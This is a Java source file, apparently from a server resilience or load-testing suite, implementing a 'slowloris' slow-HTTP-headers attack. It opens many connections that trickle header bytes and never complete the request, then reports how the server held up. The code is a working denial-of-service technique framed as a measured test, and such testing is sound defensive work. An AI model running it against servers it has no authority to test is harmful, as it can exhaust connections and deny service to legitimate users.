package dev.calls.load.abuse;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;

import jakarta.json.Json;

import dev.calls.load.metrics.Percentiles;

/**
 * Row 2, slow HTTP headers ("slowloris"): connections to the server's HTTP port, opened at the pace's rate,
 * each sending the bytes of a request header one at a time, one every {@link #BYTE_INTERVAL_MILLIS}, and
 * never the empty line that ends the header block (RFC 9112 §2.1), so that the request is never complete.
 * Reports how many the server accepted, how many it closed and how long after they opened, and what it
 * said first on them. One thread and a selector for all of them.
 */
final class SlowHeaders implements Attack {

    /** One byte per connection per interval: slow enough that a server waiting for the header waits long. */
    static final long BYTE_INTERVAL_MILLIS = 1000;
    private static final long SELECT_MILLIS = 20;
    private static final int STATUS_LINE_BYTES = 64;

    private final InetSocketAddress server;
    private final byte[] header;
    private final int count;
    private final int openRate;

    SlowHeaders(URI base, int count, int openRate) {
        int port = base.getPort() < 0 ? 80 : base.getPort();
        this.server = new InetSocketAddress(base.getHost(), port);
        this.header = headerStart(base.getHost(), port, base.getPath());
        this.count = count;
        this.openRate = openRate;
    }

    /** The request line and {@code Host}, then a header field whose value never ends. */
    static byte[] headerStart(String host, int port, String path) {
        return ("GET " + path + "api/v1/system/ping HTTP/1.1\r\nHost: " + host + ":" + port + "\r\nX-Slow: ")
                .getBytes(StandardCharsets.US_ASCII);
    }

    /** The {@code n}th byte (from 0) a connection sends: the header's start, then the never-ending value. */
    byte byteAt(long n) {
        return n < header.length ? header[(int) n] : (byte) 'a';
    }

    @Override
    public String id() {
        return "slow_headers";
    }

    @Override
    public String title() {
        return "row 2: slow HTTP headers";
    }

    @Override
    public AttackResult run(long deadlineNanos) throws IOException, InterruptedException {
        long start = System.nanoTime();
        OpenPace pace = new OpenPace(openRate, start, deadlineNanos);
        List<Slow> connections = new ArrayList<>();
        int refused = 0;
        try (Selector selector = Selector.open()) {
            long nextBytes = start;
            while (System.nanoTime() < deadlineNanos) {
                while (connections.size() < count && pace.dueNanos(connections.size()) <= System.nanoTime()) {
                    connections.add(open(selector));
                }
                selector.select(SELECT_MILLIS);
                for (SelectionKey key : selector.selectedKeys()) {
                    Slow connection = (Slow) key.attachment();
                    if (key.isValid() && key.isConnectable()) {
                        if (!connection.finishConnect(key)) {
                            refused++;
                        }
                    } else if (key.isValid() && key.isReadable()) {
                        connection.read();
                    }
                }
                selector.selectedKeys().clear();
                if (System.nanoTime() >= nextBytes) {
                    for (Slow connection : connections) {
                        connection.sendNextByte();
                    }
                    nextBytes += TimeUnit.MILLISECONDS.toNanos(BYTE_INTERVAL_MILLIS);
                }
                if (Thread.interrupted()) {
                    throw new InterruptedException();
                }
            }
        } finally {
            for (Slow connection : connections) {
                connection.close();
            }
        }
        return result(connections, refused);
    }

    private Slow open(Selector selector) throws IOException {
        SocketChannel channel = SocketChannel.open();
        channel.configureBlocking(false);
        Slow connection = new Slow(channel);
        if (channel.connect(server)) {
            connection.openedNanos = System.nanoTime();
            channel.register(selector, SelectionKey.OP_READ, connection);
        } else {
            channel.register(selector, SelectionKey.OP_CONNECT, connection);
        }
        return connection;
    }

    private AttackResult result(List<Slow> connections, int refused) {
        int accepted = 0;
        Map<String, Integer> said = new TreeMap<>();
        List<Double> closedAfter = new ArrayList<>();
        long mostBytes = 0;
        for (Slow connection : connections) {
            if (connection.openedNanos == 0) {
                continue;
            }
            accepted++;
            mostBytes = Math.max(mostBytes, connection.sent);
            if (connection.closedNanos != 0) {
                closedAfter.add((connection.closedNanos - connection.openedNanos) / 1e9);
                said.merge(connection.statusLine(), 1, Integer::sum);
            }
        }
        double[] sorted = closedAfter.stream().mapToDouble(Double::doubleValue).sorted().toArray();
        return new AttackResult(id(), title(), Json.createObjectBuilder()
                .add("connections_attempted", connections.size())
                .add("connections_accepted", accepted)
                .add("connections_refused", refused)
                .add("closed_by_server", sorted.length)
                .add("still_open_at_end", accepted - sorted.length)
                .add("closed_after_seconds_p50", Percentiles.of(sorted, 50))
                .add("closed_after_seconds_max", sorted.length == 0 ? -1 : sorted[sorted.length - 1])
                .add("server_said_before_closing", AttackResult.counts(said))
                .add("header_bytes_sent_max", mostBytes)
                .add("byte_interval_ms", BYTE_INTERVAL_MILLIS)
                .build());
    }

    /** One slow connection; touched by the attack's one thread only. */
    private final class Slow {

        private final SocketChannel channel;
        private final ByteBuffer one = ByteBuffer.allocate(1);
        private final ByteBuffer reply = ByteBuffer.allocate(STATUS_LINE_BYTES);
        private final ByteBuffer discard = ByteBuffer.allocate(4096);
        long openedNanos;
        long closedNanos;
        long sent;

        Slow(SocketChannel channel) {
            this.channel = channel;
        }

        boolean finishConnect(SelectionKey key) {
            try {
                channel.finishConnect();
                openedNanos = System.nanoTime();
                key.interestOps(SelectionKey.OP_READ);
                return true;
            } catch (IOException e) {
                key.cancel();
                close();
                return false;
            }
        }

        void sendNextByte() {
            if (openedNanos == 0 || closedNanos != 0) {
                return;
            }
            one.clear();
            one.put(byteAt(sent)).flip();
            try {
                sent += channel.write(one);
            } catch (IOException e) {
                closedByServer();
            }
        }

        void read() {
            try {
                ByteBuffer into = reply.hasRemaining() ? reply : discard;
                discard.clear();
                if (channel.read(into) < 0) {
                    closedByServer();
                }
            } catch (IOException e) {
                closedByServer();
            }
        }

        /** The first line the server sent before closing, "nothing" when it closed without a word. */
        String statusLine() {
            byte[] bytes = Arrays.copyOf(reply.array(), reply.position());
            String text = new String(bytes, StandardCharsets.US_ASCII);
            int end = text.indexOf('\r');
            String line = end < 0 ? text : text.substring(0, end);
            return line.isEmpty() ? "nothing" : line;
        }

        private void closedByServer() {
            if (closedNanos == 0) {
                closedNanos = System.nanoTime();
            }
            close();
        }

        void close() {
            try {
                channel.close();
            } catch (IOException e) {
                // closing what the server may have closed already: nothing left to release
            }
        }
    }
}
